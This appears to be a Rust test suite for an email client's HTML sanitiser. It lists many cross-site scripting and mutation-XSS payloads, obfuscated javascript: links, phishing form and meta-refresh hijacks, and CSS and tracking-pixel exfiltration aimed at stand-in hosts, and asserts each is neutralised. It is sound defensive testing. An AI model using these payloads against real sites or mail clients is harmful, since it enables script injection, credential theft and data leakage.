//! HTML that would run, load, cover or imitate something on our own pages. The strict reader knows only what is allowed,
//! so that a trick nobody listed is a fault as well.

use mail::html::{Clean, sanitise};

use super::strict;

fn clean(html: &str) -> Clean {
    strict::check_all(html);
    sanitise(html, false, &|_| None)
}

/// Each of these, cleaned, must be this. What is not to be seen at all is "".
fn become_(pairs: &[(&str, &str)]) {
    for (attack, harmless) in pairs {
        assert_eq!(clean(attack).html, *harmless, "{attack}");
    }
}

#[test]
fn scripts_do_not_run_wherever_they_hide() {
    become_(&[
        ("<script>alert(1)</script>", ""),
        ("<SCRIPT SRC=//e.example/x.js></SCRIPT>", ""),
        ("<scr<script>ipt>alert(1)</scr</script>ipt>", "ipt&gt;alert(1)ipt&gt;"),
        ("<svg><script>alert(1)</script></svg>", ""),
        ("<svg/onload=alert(1)>", ""),
        ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", ""),
        ("<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", ""),
        ("<svg><use href='data:image/svg+xml,<svg id=x/>#x'/></svg>", ""),
        (
            "<math><maction actiontype='statusline#http://e.example' xlink:href='javascript:alert(1)'>x</maction></math>",
            "",
        ),
        ("<p onclick=alert(1) onmouseover='x()' ONFOCUS=x tabindex=0 autofocus contenteditable>x</p>", "<p>x</p>"),
        ("<details open ontoggle=alert(1)><summary>x</summary>y</details>", "xy"),
        ("<marquee onstart=alert(1)>x</marquee>", "x"),
        ("<x onclick=alert(1)>y</x>", "y"),
        ("<body onload=alert(1)>x</body>", "x"),
        ("<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>", ""),
        ("<isindex action=javascript:alert(1) type=image>", ""),
        ("<img src=x onerror=alert(1)>", "<span class=\"missing-image\"></span>"),
        ("<image src=x onerror=alert(1)>", "<span class=\"missing-image\"></span>"),
        ("<img/src='x'/onerror=alert(1)//", ""),
        ("<a href='https://ok.example/' onclick=alert(1)>x</a>", LINK),
    ]);
}

const LINK: &str = "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>";
const NO_LINK: &str = "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>";

#[test]
fn links_lead_to_the_web_and_nowhere_else() {
    for address in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " \t\n javascript:alert(1)",
        "java\nscript:alert(1)",
        "java&Tab;script:alert(1)",
        "java&#x0a;script:alert(1)",
        "&#1;javascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "jav\0ascript:alert(1)",
        "\u{FEFF}javascript:alert(1)",
        "javascript://%0aalert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "feed:javascript:alert(1)",
        "view-source:https://x.example",
        "blob:https://x.example/1",
        "file:///etc/passwd",
        "ms-word:ofe|u|https://x.example/a.docx",
        "intent://x#Intent;scheme=https;end",
        "cid:part",
        "/logout",
        "logout",
        "?images=abc",
        "#thread",
        "//e.example/x",
        "\\\\e.example\\x",
        "http:/settings",
    ] {
        let html = clean(&format!("<a href=\"{address}\">x</a>")).html;
        let kept = html == NO_LINK || html.starts_with("<a href=\"http:/settings\"");
        assert!(kept && !html.contains("href=\"http:/s"), "{address:?}: {html}");
    }
    become_(&[
        ("<a href='https://ok.example/' target=_self rel=opener>x</a>", LINK),
        ("<a href='https://ok.example/' ping='https://e.example/' download=x.exe type=x hreflang=x>x</a>", LINK),
        ("<area href='https://e.example/'>", ""),
        ("<map name=m><area href=javascript:x></map><img usemap=#m>", "<span class=\"missing-image\"></span>"),
    ]);
}

#[test]
fn forms_frames_and_pages_in_the_page_are_gone() {
    become_(&[
        (
            "<form action='https://e.example'>x<input name=passphrase><button formaction='javascript:x'>go</button></form>",
            "x",
        ),
        ("<input form=reply formaction=https://e.example type=submit>", ""),
        ("<button form=reply formaction=https://e.example>x</button>", ""),
        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""),
        ("<select><option>x</select><textarea>y</textarea><keygen><output>z</output>", "z"),
        ("<meta http-equiv=refresh content='0;url=https://e.example'>", ""),
        ("<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">", ""),
        ("<base href='https://e.example/'>", ""),
        ("<link rel=stylesheet href='https://e.example/x.css'><link rel=prefetch href='https://e.example'>", ""),
        ("<iframe src='https://e.example'></iframe><iframe srcdoc='<script>x</script>'></iframe>", ""),
        ("<frameset><frame src='https://e.example'></frameset>", ""),
        ("<object data='https://e.example'><param name=x><embed src='https://e.example'></object>", ""),
        ("<applet code=x></applet><portal src='https://e.example'></portal>", ""),
        ("<dialog open>Your session ended</dialog>", "Your session ended"),
    ]);
}

#[test]
fn styles_neither_cover_the_page_nor_ask_about_it() {
    become_(&[
        ("<div style='position:fixed;inset:0;z-index:9999'>x</div>", "<div>x</div>"),
        ("<p style=\"background:url(https://e.example/x)\">x</p>", "<p>x</p>"),
        ("<p style='behavior:url(x);-moz-binding:url(x);width:expression(alert(1))'>x</p>", "<p>x</p>"),
        ("<style>@import 'https://e.example/x.css';</style>x", "x"),
        ("<style>input[value^=a]{background:url(https://e.example/a)}</style>x", "x"),
        ("<style>@font-face{font-family:f;src:url(https://e.example/f)}p{font-family:f}</style><p>x</p>", "<p>x</p>"),
        (
            "<style><!--</style><img title=\"--></style><img src=x onerror=alert(1)>\">",
            "<span class=\"missing-image\"></span>",
        ),
        ("<svg><style>*{background:url(https://e.example)}</style></svg>x", "x"),
        ("<font color=red size=7 face=x>x</font><center>y</center>", "x<center>y</center>"),
        (
            "<table background='https://e.example/x' bgcolor=red><td background='https://e.example/y'>x",
            "<table><tbody><tr><td>x</td></tr></tbody></table>",
        ),
        ("<td colspan=1000000 rowspan=65534 width=99999999>x", "x"),
        (
            "<table><td colspan=1000000 rowspan=65534 width=99999999>x",
            "<table><tbody><tr><td>x</td></tr></tbody></table>",
        ),
        (
            "<table cellpadding=99999 border=9999 width=100%><td width=50%>x",
            "<table width=\"100%\"><tbody><tr><td width=\"50%\">x</td></tr></tbody></table>",
        ),
    ]);
}

#[test]
fn nothing_takes_the_names_of_our_page() {
    become_(&[
        ("<div id=thread class='live note btn'>x</div>", "<div>x</div>"),
        ("<a id=reply name=reply>x</a>", "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>"),
        (
            "<img name=body id=cookie><p id=__proto__ name=getElementById>x</p>",
            "<span class=\"missing-image\"></span><p>x</p>",
        ),
        (
            "<div hx-get=/logout hx-post=/x hx-on:load='alert(1)' hx-trigger=load hx-swap-oob=true hx-boost=true>x</div>",
            "<div>x</div>",
        ),
        ("<div data-hx-get=/x data-key=r data-auto data-live=x>x</div>", "<div>x</div>"),
        (
            "<p role=alert aria-label='Kept' aria-hidden=true accesskey=r slot=x is=y part=z exportparts=q>x</p>",
            "<p>x</p>",
        ),
        (
            "<span class=blocked-image>ours?</span><span class=missing-image>x</span>",
            "<span>ours?</span><span>x</span>",
        ),
        ("<hx-partial hx-target=#thread>x</hx-partial>", "x"),
    ]);
}

#[test]
fn html_that_changes_when_it_is_read_again_is_read_to_its_end() {
    for attack in [
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<svg></p><style><a title=\"</style><img src onerror=alert(1)>\">",
        "<svg><desc><noscript><p title=\"</noscript></desc></svg><img src onerror=alert(1)>\">",
        "<svg><foreignObject><math><mi><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math><annotation-xml encoding='text/html'><style><img title=\"</style><img src onerror=alert(1)>\"></annotation-xml>",
        "<template><style></template><img title=\"</style><img src onerror=alert(1)>\">",
        "<form id=a><div></form><form id=b><input form=a>",
        "<table><caption><svg><title><table><caption></caption><style></title></svg></style><img src onerror=alert(1)>",
        "<p><marquee><p>x</p></marquee></p>",
        "<a><table><a>x",
        "<b><p><marquee></b><p><i>x</marquee></p></i>",
        "<svg><![CDATA[><img src onerror=alert(1)>]]></svg>",
        "<xmp><p title=\"</xmp><img src onerror=alert(1)>\"></xmp>",
        "<iframe><p title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
        "<!--><img src onerror=alert(1)>-->",
        "<!-- --!><img src onerror=alert(1)> -->",
        "<a title=\"&quot; onmouseover=alert(1) x=&quot;\">x</a>",
        "<img alt=\"`><img src onerror=alert(1)>\">",
        "<plaintext></div></div><script>alert(1)</script>",
        "</div></div></main></body></html><h1>Log in again</h1>",
        "<img src=\"//t.example\u{FFFD}/x\" alt=\"<\">", // no address, once it is written with https; found by fuzzing
    ] {
        let html = clean(attack).html;
        assert!(!html.contains("<img src onerror"), "{attack} -> {html}");
    }
}

#[test]
fn nothing_is_fetched_until_somebody_asks_and_then_only_pictures() {
    let html = "<img src='http://t.example/open.gif?id=1' width=1 height=1><img src=//t.example/2><img srcset='https://t.example/3 2x'>\
        <picture><source srcset='https://t.example/4'><img src='https://t.example/5'></picture><video poster='https://t.example/6'></video>\
        <input type=image src='https://t.example/7'><bgsound src='https://t.example/8'><body background='https://t.example/9'>\
        <img src='https:\\\\t.example\\10'><img src='https:t.example/11'><img lowsrc='https://t.example/12' dynsrc='https://t.example/13'>\
        <svg><image href='https://t.example/14'/></svg><img src='ftp://t.example/15'><img src='h&#9;ttps://t.example/16'>";
    strict::check_all(html);
    let waiting = sanitise(html, false, &|_| None);
    assert!(!waiting.html.contains("t.example"), "{}", waiting.html);
    assert_eq!(waiting.remote_images, 5);
    let asked = sanitise(html, true, &|_| None).html;
    let fetched: Vec<&str> = asked.split("src=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
    assert_eq!(
        fetched,
        ["https://t.example/open.gif?id=1", "https://t.example/2", "https://t.example/5"],
        "by https alone"
    );
    assert!(asked.matches("<img ").count() == asked.matches("referrerpolicy=\"no-referrer\"").count());
}

#[test]
fn five_thousand_links_and_more_than_we_take_apart_are_shown() {
    for n in [5_000, 60_000] {
        let html = format!("<p>{}</p>", "<a href=\"https://e.example/\">x</a> ".repeat(n));
        let shown = clean(&html).html;
        assert!(shown.matches("href=").count() == n || shown.starts_with("<pre>"), "{n}");
    }
}

#[test]
fn html_too_costly_to_take_apart_is_text_that_stays_as_it_is() {
    let deep = "<div>".repeat(1_000);
    let shown = clean(&format!("{deep}\n\0\"a\" & b&nbsp;<c\r\nd")).html;
    assert!(shown.starts_with("<pre>") && shown.contains("\"a\" &amp; b"), "{shown}");
}
